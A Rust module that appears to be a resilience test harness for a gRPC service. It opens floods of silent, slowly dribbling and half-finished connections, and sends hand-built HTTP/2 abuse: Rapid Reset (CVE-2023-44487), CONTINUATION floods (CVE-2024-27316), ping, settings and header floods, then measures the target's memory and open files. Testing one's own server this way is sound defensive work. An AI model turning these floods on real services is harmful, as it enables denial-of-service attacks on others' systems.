//! Hostile connections: half-open ones, slow ones, idle ones, and such that abuse HTTP/2. What no honest client sends.
//!
//! A flood keeps so many connections going for as long as it lives, from several addresses of this machine; whatever the
//! other side closes is opened again. An attack is one connection that sends without end until it is stopped. Frames are
//! made by hand, because no library would send them.

use anyhow::{Context, ensure};
use nix::sys::resource::{Resource, getrlimit, setrlimit};
use std::fs;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::runtime::{Builder, Runtime};
use tokio::time::{Interval, MissedTickBehavior};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;
use tokio_rustls::rustls::crypto::aws_lc_rs;
use tokio_rustls::rustls::pki_types::pem::PemObject;
use tokio_rustls::rustls::pki_types::{CertificateDer, ServerName};
use tokio_rustls::rustls::{ClientConfig, RootCertStore};

/// How long a connection of a flood that was closed stays away: thousands of them must not take the whole processor.
const REOPEN_AFTER: Duration = Duration::from_millis(500);

/// The time between two bytes of a slow handshake.
const DRIBBLE: Duration = Duration::from_millis(100);

/// An attack that can write nothing for so long has been stopped.
const STALLED_AFTER: Duration = Duration::from_secs(3);

/// How a connection of a flood behaves.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Idler {
    /// It connects and says nothing.
    Silent,
    /// It sends a TLS handshake byte by byte.
    Dribbling,
    /// It makes the TLS handshake and says nothing.
    Shaken,
    /// It begins a call and never ends its headers.
    HalfCall,
}

/// What an attack sends without end.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Abuse {
    /// Calls that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Pings.
    Pings,
    /// Settings.
    Settings,
    /// One call's headers that never end (CVE-2024-27316).
    Continuation,
    /// Calls with very long lists of headers.
    Headers,
}

impl Abuse {
    /// All of them.
    pub const ALL: [Self; 5] =
        [Self::RapidReset, Self::Pings, Self::Settings, Self::Continuation, Self::Headers];
}

/// Where hostile connections go.
#[derive(Clone)]
pub struct Target {
    address: SocketAddr,
    tls: Arc<ClientConfig>,
}

impl Target {
    /// A listener by its endpoint `https://HOST:PORT`, and the CA that it is known by, as PEM.
    ///
    /// # Errors
    /// When one of them is not of the right form.
    pub fn new(endpoint: &str, ca_cert: &[u8]) -> anyhow::Result<Self> {
        let address = endpoint.trim_start_matches("https://").parse().context("an address")?;
        let mut roots = RootCertStore::empty();
        roots.add(CertificateDer::from_pem_slice(ca_cert)?)?;
        let provider = Arc::new(aws_lc_rs::default_provider());
        let config = ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions()?;
        let mut config = config.with_root_certificates(roots).with_no_client_auth();
        config.alpn_protocols = vec![b"h2".to_vec()];
        Ok(Self { address, tls: Arc::new(config) })
    }

    async fn connect(&self, source: u8) -> std::io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.bind(SocketAddr::from((Ipv4Addr::new(127, 0, 0, source), 0)))?;
        socket.connect(self.address).await
    }

    async fn shake_hands(&self, source: u8) -> std::io::Result<TlsStream<TcpStream>> {
        let name = ServerName::from(self.address.ip());
        TlsConnector::from(Arc::clone(&self.tls)).connect(name, self.connect(source).await?).await
    }
}

/// Many connections that want nothing but to be there.
#[derive(Debug)]
pub struct Flood {
    runtime: Option<Runtime>,
    opened: Arc<AtomicU64>,
    closed: Arc<AtomicU64>,
}

impl Flood {
    /// Opens so many connections, from as many addresses of this machine as `sources` says, and keeps them going.
    ///
    /// # Errors
    /// When this process may not have so many open files.
    pub fn start(target: &Target, idler: Idler, count: usize, sources: u8) -> anyhow::Result<Self> {
        allow_open_files(u64::try_from(count)? + 256)?;
        let runtime = Builder::new_multi_thread().worker_threads(1).enable_all().build()?;
        let (opened, closed) = (Arc::<AtomicU64>::default(), Arc::<AtomicU64>::default());
        for number in 0..count {
            // 127.0.0.1 is left to honest clients.
            let source = 2 + u8::try_from(number % usize::from(sources.max(1)))?;
            let (target, opened, closed) = (target.clone(), Arc::clone(&opened), Arc::clone(&closed));
            runtime.spawn(async move {
                let mut pace = pace(REOPEN_AFTER);
                loop {
                    pace.tick().await;
                    // Whatever goes wrong with it, it comes again.
                    let _ = idle(&target, idler, source, &opened).await;
                    closed.fetch_add(1, Ordering::Relaxed);
                }
            });
        }
        Ok(Self { runtime: Some(runtime), opened, closed })
    }

    /// How many connections were opened so far, and how many of them have ended.
    #[must_use]
    pub fn so_far(&self) -> (u64, u64) {
        (self.opened.load(Ordering::Relaxed), self.closed.load(Ordering::Relaxed))
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        if let Some(runtime) = self.runtime.take() {
            runtime.shutdown_background();
        }
    }
}

/// Ticks that are at least so far apart.
fn pace(span: Duration) -> Interval {
    let mut pace = tokio::time::interval(span);
    pace.set_missed_tick_behavior(MissedTickBehavior::Delay);
    pace
}

async fn idle(target: &Target, idler: Idler, source: u8, opened: &AtomicU64) -> std::io::Result<()> {
    let mut rest = [0; 1024];
    match idler {
        Idler::Silent => {
            let mut stream = target.connect(source).await?;
            opened.fetch_add(1, Ordering::Relaxed);
            while stream.read(&mut rest).await? > 0 {}
        }
        Idler::Dribbling => {
            let mut stream = target.connect(source).await?;
            opened.fetch_add(1, Ordering::Relaxed);
            // A record of 512 bytes, of which hardly any come.
            let bytes = [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3].into_iter().chain(std::iter::repeat(7));
            let mut pace = pace(DRIBBLE);
            for byte in bytes {
                pace.tick().await;
                stream.write_all(&[byte]).await?;
            }
        }
        Idler::Shaken | Idler::HalfCall => {
            let mut stream = target.shake_hands(source).await?;
            opened.fetch_add(1, Ordering::Relaxed);
            if idler == Idler::HalfCall {
                stream.write_all(&[preface(), frame(HEADERS, 0, 1, &headers(None))].concat()).await?;
            }
            while stream.read(&mut rest).await? > 0 {}
        }
    }
    Ok(())
}

/// How an attack ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Ended {
    /// The other side has closed the connection, after about so many bytes.
    Closed(usize),
    /// The other side takes nothing more, after about so many bytes.
    Stalled(usize),
    /// Everything was sent.
    Sent,
}

/// Sends an abuse until it is stopped or has sent so many bytes; first a good call, if there is a token for it.
///
/// # Errors
/// When there is no connection at all.
pub fn attack(
    target: &Target,
    abuse: Abuse,
    bearer: Option<&str>,
    bytes_max: usize,
) -> anyhow::Result<Ended> {
    let runtime = Builder::new_current_thread().enable_all().build()?;
    runtime.block_on(async {
        let (mut read, mut write) = tokio::io::split(target.shake_hands(1).await.context("no handshake")?);
        write.write_all(&preface()).await?;
        if bearer.is_some() {
            write.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, 1, &headers(bearer))).await?;
            // Its answer says that the caller is known.
            let mut first = [0; 64];
            read.read_exact(&mut first).await?;
        }
        let reading = async {
            let mut rest = [0; 16 * 1024];
            while matches!(read.read(&mut rest).await, Ok(1..)) {}
        };
        tokio::pin!(reading);
        let (mut sent, mut stream) = (0, 3);
        if abuse == Abuse::Continuation {
            write.write_all(&frame(HEADERS, END_STREAM, stream, &headers(bearer))).await?;
        }
        while sent < bytes_max {
            let piece = piece(abuse, bearer, &mut stream);
            sent += piece.len();
            tokio::select! {
                biased;
                () = &mut reading => return Ok(Ended::Closed(sent)),
                written = tokio::time::timeout(STALLED_AFTER, write.write_all(&piece)) => match written {
                    Ok(Ok(())) => {}
                    Ok(Err(_)) => return Ok(Ended::Closed(sent)),
                    Err(_) => return Ok(Ended::Stalled(sent)),
                },
            }
        }
        Ok(Ended::Sent)
    })
}

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Some frames of an abuse: about 16 KiB.
fn piece(abuse: Abuse, bearer: Option<&str>, stream: &mut u32) -> Vec<u8> {
    let junk = || [&[0x00, 0x04][..], b"junk", &[0x7f, 0x81, 0x07], &[b'x'; 1024]].concat();
    let mut bytes = Vec::new();
    while bytes.len() < 16 * 1024 {
        match abuse {
            Abuse::RapidReset => {
                bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, *stream, &headers(bearer)));
                bytes.extend(frame(RST_STREAM, 0, *stream, &8_u32.to_be_bytes()));
                *stream += 2;
            }
            Abuse::Pings => bytes.extend(frame(PING, 0, 0, &[7; 8])),
            Abuse::Settings => bytes.extend(frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])),
            Abuse::Continuation => bytes.extend(frame(CONTINUATION, 0, *stream, &junk())),
            Abuse::Headers => {
                bytes.extend(frame(HEADERS, END_STREAM, *stream, &headers(bearer)));
                (0..14).for_each(|_| bytes.extend(frame(CONTINUATION, 0, *stream, &junk())));
                bytes.extend(frame(CONTINUATION, END_HEADERS, *stream, &junk()));
                *stream += 2;
            }
        }
    }
    bytes
}

/// What an HTTP/2 connection begins with.
fn preface() -> Vec<u8> {
    [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(SETTINGS, 0, 0, &[])].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The headers of a call that lists pools, as HPACK without compression.
fn headers(bearer: Option<&str>) -> Vec<u8> {
    // :method POST, :scheme https
    let mut block = vec![0x83, 0x87];
    let mut literal = |name: &[u8], value: &str| {
        block.extend_from_slice(name);
        // A length of seven bits, continued in groups of seven.
        let mut length = value.len();
        if length < 127 {
            block.push(u8::try_from(length).unwrap_or(0));
        } else {
            block.push(127);
            length -= 127;
            while length >= 128 {
                block.push(u8::try_from(length % 128).unwrap_or(0) | 128);
                length /= 128;
            }
            block.push(u8::try_from(length).unwrap_or(0));
        }
        block.extend_from_slice(value.as_bytes());
    };
    literal(&[0x04], "/muster.v1.PoolService/ListPools");
    literal(&[0x01], "localhost");
    literal(&[0x0f, 0x10], "application/grpc");
    if let Some(bearer) = bearer {
        literal(&[0x0f, 0x08], &format!("Bearer {bearer}"));
    }
    block
}

/// Lets this process have so many open files.
///
/// # Errors
/// When the system does not.
pub fn allow_open_files(wanted: u64) -> anyhow::Result<()> {
    let (soft, hard) = getrlimit(Resource::RLIMIT_NOFILE)?;
    if soft < wanted {
        let raised = setrlimit(Resource::RLIMIT_NOFILE, hard.max(wanted), hard.max(wanted));
        ensure!(raised.is_ok(), "this needs {wanted} open files, and the system gives {hard}");
    }
    Ok(())
}

/// How much memory of a process is resident, in KiB.
///
/// # Errors
/// When there is no such process.
pub fn resident_kib(process: u32) -> anyhow::Result<u64> {
    let status = fs::read_to_string(format!("/proc/{process}/status"))?;
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).context("no VmRSS")?;
    Ok(line.trim().trim_end_matches("kB").trim().parse()?)
}

/// How many files a process has open.
///
/// # Errors
/// When there is no such process, or it is somebody else's.
pub fn open_files(process: u32) -> anyhow::Result<usize> {
    Ok(fs::read_dir(format!("/proc/{process}/fd"))?.count())
}
